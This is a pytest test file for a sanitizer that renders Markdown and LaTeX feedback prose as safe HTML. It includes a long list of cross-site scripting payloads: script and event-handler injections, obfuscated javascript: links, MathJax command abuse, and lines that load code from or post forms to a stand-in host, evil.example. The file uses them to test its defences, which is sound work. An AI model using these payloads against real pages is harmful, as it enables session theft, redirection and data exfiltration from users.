"""Prose on feedback pages: read as it was written, and nothing of it active, whatever it tries."""

import re
from html.parser import HTMLParser

import pytest

from grading.report.formulas import TAGS, VALUES, formula
from grading.report.prose import LONGEST, message, prose
from tests.growth import assert_growth

PICTURES = {"attachment:picture-1.png": "data:image/png;base64,AAAA"}
HTML = {
    **{tag: set() for tag in ("em", "strong", "s", "code", "ul", "li", "blockquote", "hr", "br")},
    **{tag: set() for tag in ("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td")},
    "p": {"class"},
    "pre": {"class"},
    "ol": {"start"},
    "a": {"href", "rel"},
    "img": {"src", "alt"},
}


class Allowed(HTMLParser):
    """Checks every tag and attribute against what prose may hold; collects addresses and the words of links."""

    def __init__(self, html):
        super().__init__()
        self.addresses, self.words, self.text = [], [], ""
        self._link = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        allowed = set(VALUES) if tag in TAGS else HTML[tag]
        assert {name for name, _ in attrs} <= allowed, (tag, attrs)
        values = dict(attrs)
        if tag == "a":
            assert values["href"].startswith(("https://", "http://"))
            self._link = ""
            self.addresses.append(values["href"])
        if tag == "img":
            assert values["src"].startswith("data:image/png;base64,")

    def handle_endtag(self, tag):
        if tag == "a":
            self.words.append(self._link)
            self._link = None

    def handle_data(self, data):
        self.text += data
        if self._link is not None:
            self._link += data

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>20 of 20</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a\nhref='javascript:alert(1)'>x</a>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<!doctype html><base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x></form>",
    "</section></main><h1>20 of 20</h1>",
    "<details open ontoggle=alert(1)>",
    "<b>bold</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "[x](/etc/passwd)",
    '[x](<https://evil.example/"onmouseover=alert(1)>)',
    "[https://good.example](https://evil.example)",
    '[x](https://evil.example "onclick=alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[[[[x](javascript:alert(1))](b)](c)](d)",
    "![x](https://evil.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](attachment:picture-1.png)',
    "![<script>alert(1)</script>](attachment:picture-1.png)",
    "![![x](javascript:alert(1))](attachment:picture-1.png)",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\n<script>\n```',
    "```x onload=alert(1) style=color:red\na\n```",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{points}{20}$",
    "$\\cssId{x}{y}$",
    "$\\includegraphics{https://evil.example/p.png}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "$\\mathrm{<img src=x onerror=alert(1)>}$",
    "$\\unicode{x3c}script>alert(1)$",
    "$</math><script>alert(1)</script>$",
    '$\\color{"onclick=alert(1)}{x}$',
    "$\\color{url(https://evil.example)}{x}$",
    "$\\hspace{999em}x\\hspace{-999em}$",
    '$\\begin{array}{"onload=alert(1)}x\\end{array}$',
    "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\a$",
    "$\\newcommand{\\href}[2]{#1}\\href{x}{y}$",
    "$\\require{html}\\data{x}{y}$",
    '$$\n\\tag{<b>}x\n$$ (label"><script>)',
    "\\begin{align}\n</p><script>alert(1)</script>\n\\end{align}",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "> " * 300 + "x",
    "* " * 300 + "x",
    "\0<script>\x1b[31m\u202e",
    "\ud7ff\uffff<a>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_active_survives(text):
    for html in (prose(text, PICTURES), prose(f"a\n\n- {text}\n\n> {text}", PICTURES), message(text)):
        page = Allowed(html)
        assert page.addresses == page.words  # a link shows where it leads


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_does_it_in_a_formula(attack):
    Allowed(formula(attack))
    Allowed(formula(f"x_{{{attack}}}", block=True))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** *em* ~~no~~ `a<b`", "<strong>bold</strong> <em>em</em> <s>no</s> <code>a&lt;b</code>"),
        ("- a\n- b", "<li>a</li>"),
        ("3. a", '<ol start="3">'),
        ("|a|\n|-|\n|b|", "<td>b</td>"),
        ("# top", "<h3>top</h3>"),
        ("###### low", "<h6>low</h6>"),
        ("```\nx = 1\n```", "<pre><code>x = 1\n</code></pre>"),
        ("a <b>b</b> c", "a &lt;b&gt;b&lt;/b&gt; c"),
        ("$\\bar y_j$", "<mi>j</mi></msub></mrow></math>"),
        ("so $$a < b$$ it", '<math display="block"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math>'),
        ("$$\n\\frac12\n$$", "<mfrac><mn>1</mn><mn>2</mn></mfrac>"),
        ("\\begin{align}\na &= b\n\\end{align}", "<mtable"),
        ("it costs $5 or $6", "it costs $5 or $6"),
        ("$\\nosuchcommand x$", "<code>$\\nosuchcommand x$</code>"),
        ("$\\href{a}{b}$", "<code>$\\href{a}{b}$</code>"),
        (
            "[a](https://a.example)",
            'a (<a href="https://a.example" rel="noopener noreferrer">https://a.example</a>)',
        ),
        (
            "<https://a.example>",
            '<p><a href="https://a.example" rel="noopener noreferrer">https://a.example</a></p>',
        ),
        ("![x](attachment:picture-1.png)", '<img alt="x" src="data:image/png;base64,AAAA">'),
        ("![x](photo.heic)", "(a picture, photo.heic, cannot be shown here)"),
    ],
)
def test_prose_reads_as_it_was_meant(text, html):
    assert html in prose(text, PICTURES)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("divides by n_j - 1", "<msub><mi>n</mi><mrow><mi>j</mi></mrow></msub>"),
        ("is s_j^2 / n_j", "<msubsup>"),
        ("one sigma^2 for all", "<mi>\N{GREEK SMALL LETTER SIGMA}</mi>"),
        ("1/tau^2, and tau", "<mi>\N{GREEK SMALL LETTER TAU}</mi>"),
        ("your group_summary is", "<code>group_summary</code>"),
        ("call `np.var(x, ddof=1)`", "<code>np.var(x, ddof=1)</code>"),
        ("the root of $v_j$", "<msub>"),
        ("a < b & c", "a &lt; b &amp; c"),
    ],
)
def test_symbols_in_a_message_look_like_formulas(text, html):
    assert html in message(text)


@pytest.mark.parametrize(
    "text",
    [
        "y = [81, 47], a mean",
        "grand_mean=3 or x.n_j(2)",
        "I am J",
        "mean_squares()",
        "U.S. and e.g. t",
        "tau2 = 3",
    ],
)
def test_code_and_words_in_a_message_are_no_formula(text):
    assert "<math" not in message(text)
    assert re.sub(r"</?code>", "", message(text)) == text


def test_enormous_prose_stands_as_it_was_typed():
    html = prose("**a** <b>" * LONGEST)
    assert html.startswith('<pre class="prose">**a** &lt;b&gt;')
    assert Allowed(html)


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "](",
        "[x](",
        "**a ",
        "_a",
        "`a``",
        "$a ",
        "$$\n",
        "> ",
        "- ",
        "|a",
        "a|b\n-|-\n",
        "[a]: b\n",
        "[![",
        "&a",
        "\\begin{align}\n",
        "<a ",
        "~~a ",
    ],
)
def test_prose_takes_time_in_proportion(piece):
    assert_growth(lambda n: prose((piece * n)[:n]), 4_000, 16_000, below=12)  # 16 if it were quadratic


@pytest.mark.parametrize("piece", ["a_b^2 ", "`", "$a", "tau^", "a_", "_"])
def test_messages_take_time_in_proportion(piece):
    assert_growth(lambda n: message((piece * n)[:n]), 4_000, 16_000, below=12)
